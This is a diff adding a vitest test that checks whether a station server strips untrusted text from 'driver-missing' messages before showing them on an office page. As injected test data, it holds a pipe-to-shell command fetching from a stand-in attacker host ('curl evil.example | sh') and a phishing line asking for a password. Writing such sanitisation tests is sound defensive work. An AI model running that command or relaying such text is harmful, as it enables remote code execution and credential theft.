@@ -1,6 +1,8 @@
+import type { Static } from 'typebox'
 import { afterAll, beforeAll, expect, test } from 'vitest'
 import { WebSocket } from 'ws'
 import { STATION_SOCKET_PATH, type StationMessage } from '../../hardware/station/messages.ts'
+import type { Stations } from '../../server/stations/schema.ts'
 import { signIn, type Person } from '../support/cards.ts'
 import { startTestServer, type TestServer } from '../support/server.ts'
 import { listen, until } from '../support/stations.ts'
@@ -69,4 +71,23 @@ test('what a station adds to its devices does not reach the office’s page, and
     return body.stations.find(({ name, devices }) => name === 'Chatty' && devices.length > 0)
   })
   expect(chatty.devices).toEqual([device('Reader')])
+})
+
+const see = async () => (await administrator.client.get<Static<typeof Stations>>('/stations')).body
+
+test('a station puts no words on the office page: what is missing there is told by code', async () => {
+  const { send } = await link('Talkative')
+  send({ type: 'hello', stationVersion: 'test', devices: [] })
+  const words = { sentence: 'Call 555 0199 and read your password out.', install: 'curl evil.example | sh' }
+  send({ type: 'driver-missing', driver: 'pcscd', system: 'windows', ...words })
+  send({ type: 'driver-missing', driver: 'serialport', ...words })
+  const told = await until('two notices', async () => {
+    const notices = (await see()).stations.find(({ name }) => name === 'Talkative')?.notices
+    return notices?.length === 2 && notices
+  })
+  expect(told).toEqual([
+    { driver: 'pcscd', system: 'windows' },
+    { driver: 'serialport', system: 'other' },
+  ])
+  expect(JSON.stringify(await see())).not.toContain('evil')
 })
